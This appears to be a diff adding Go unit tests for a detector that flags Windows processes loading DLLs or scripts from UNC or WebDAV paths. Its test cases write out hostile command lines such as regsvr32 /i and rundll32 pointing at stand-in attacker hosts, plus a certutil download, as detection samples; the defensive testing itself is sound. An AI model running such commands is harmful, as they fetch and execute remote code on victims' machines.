@@ -0,0 +1,99 @@
+package main
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestFindUNCPaths(t *testing.T) {
+	tests := []struct {
+		name  string
+		text  string
+		paths []uncPath
+	}{
+		{"plain", `regsvr32 /s \\evil\share\payload.dll`, []uncPath{{Host: "evil", Path: `\\evil\share\payload.dll`}}},
+		{"quoted", `mshta "\\Live.Sysinternals.com\Tools\a.hta"`, []uncPath{{Host: "live.sysinternals.com", Path: `\\live.sysinternals.com\tools\a.hta`}}},
+		{"forward slashes", `rundll32 //10.0.0.9/c$/x.dll,Run`, []uncPath{{Host: "10.0.0.9", Path: `\\10.0.0.9\c$\x.dll`}}},
+		{"mixed slashes", `regsvr32 \/evil/share\x.sct`, []uncPath{{Host: "evil", Path: `\\evil\share\x.sct`}}},
+		{"webdav ssl", `rundll32 \\attacker.example@SSL\DavWWWRoot\x.dll,Run`, []uncPath{{Host: "attacker.example", WebDAV: true, Path: `\\attacker.example\davwwwroot\x.dll`}}},
+		{"webdav port", `regsvr32 /i:\\203.0.113.7@80\s\x.sct scrobj.dll`, []uncPath{{Host: "203.0.113.7", WebDAV: true, Path: `\\203.0.113.7\s\x.sct`}}},
+		{"url is not a share", `certutil -urlcache -f http://evil.example//share/x.exe`, nil},
+		{"escaped drive path", `cmd /c "C:\\Windows\\System32\\calc.exe"`, nil},
+		{"local path", `regsvr32 /s C:\Users\Public\a.dll`, nil},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := findUNCPaths(tt.text); !reflect.DeepEqual(got, tt.paths) {
+				t.Errorf("findUNCPaths() = %+v, want %+v", got, tt.paths)
+			}
+		})
+	}
+}
+
+func TestTrustedShare(t *testing.T) {
+	withConfig(t, func(c *Config) { c.TrustedShares = []string{`\\Corp-FileServer\deploy\`, `//sccm/pkg`} })
+	tests := []struct {
+		path    string
+		trusted bool
+	}{
+		{`\\corp-fileserver\deploy\agent.msi`, true},
+		{`\\corp-fileserver\deploy`, true},
+		{`\\sccm\pkg\setup.exe`, true},
+		{`\\corp-fileserver\deployment\x.dll`, false},
+		{`\\corp-fileserver\deploy\..\users\x.dll`, false},
+		{`\\evil\deploy\x.dll`, false},
+	}
+	for _, tt := range tests {
+		if _, trusted := trustedShare(tt.path); trusted != tt.trusted {
+			t.Errorf("trustedShare(%s) = %v, want %v", tt.path, trusted, tt.trusted)
+		}
+	}
+}
+
+func TestCheckUNCPaths(t *testing.T) {
+	withConfig(t, func(c *Config) { c.TrustedShares = []string{`\\corp-fileserver\deploy`} })
+	tests := []struct {
+		name       string
+		executable string
+		cmdLine    string
+		indicator  string
+		value      string
+	}{
+		{"argument", `C:\Windows\System32\regsvr32.exe`, `regsvr32.exe /s "\\evil.example\share\payload.dll"`, "unc_path", `\\evil.example\share\payload.dll`},
+		{"webdav argument", `C:\Windows\System32\rundll32.exe`, `rundll32.exe \\evil.example@SSL\DavWWWRoot\x.dll,Run`, "webdav_path", `\\evil.example\davwwwroot\x.dll`},
+		{"executable", `\\evil.example\share\mshta.exe`, `mshta.exe vbscript:Close()`, "unc_path", `\\evil.example\share\mshta.exe`},
+		{"trusted share", `C:\Windows\System32\regsvr32.exe`, `regsvr32.exe /s \\corp-fileserver\deploy\agent.dll`, "", ""},
+		{"local path", `C:\Windows\System32\regsvr32.exe`, `regsvr32.exe /s C:\Program Files\Vendor\agent.dll`, "", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			event := ProcessEvent{Rule: imageName(tt.executable), ExecutablePath: tt.executable, CommandLine: tt.cmdLine}
+			checkUNCPaths(&event)
+			if tt.indicator == "" {
+				if event.Suspicious || hasIndicator(event, "unc_path", "") || hasIndicator(event, "webdav_path", "") {
+					t.Errorf("flagged: %s, %+v", event.Reason, event.Indicators)
+				}
+				return
+			}
+			if !event.Suspicious || event.Severity != SeverityHigh || !hasIndicator(event, tt.indicator, tt.value) {
+				t.Errorf("suspicious %v, severity %v, indicators %+v, want a %s indicator %s", event.Suspicious, event.Severity, event.Indicators, tt.indicator, tt.value)
+			}
+		})
+	}
+}
+
+func TestUNCHostIOC(t *testing.T) {
+	event := evaluate(`C:\Windows\System32\regsvr32.exe`, `regsvr32.exe /s /i:\\files.evil.example@SSL\s\x.sct scrobj.dll`)
+	found := false
+	for _, ioc := range event.IOCs {
+		if ioc.Type == IOCUNCHost && ioc.Value == "files.evil.example" {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("IOCs = %+v, want the UNC host files.evil.example", event.IOCs)
+	}
+	if !hasIndicator(event, "webdav_path", "") {
+		t.Errorf("indicators = %+v, want a webdav_path", event.Indicators)
+	}
+}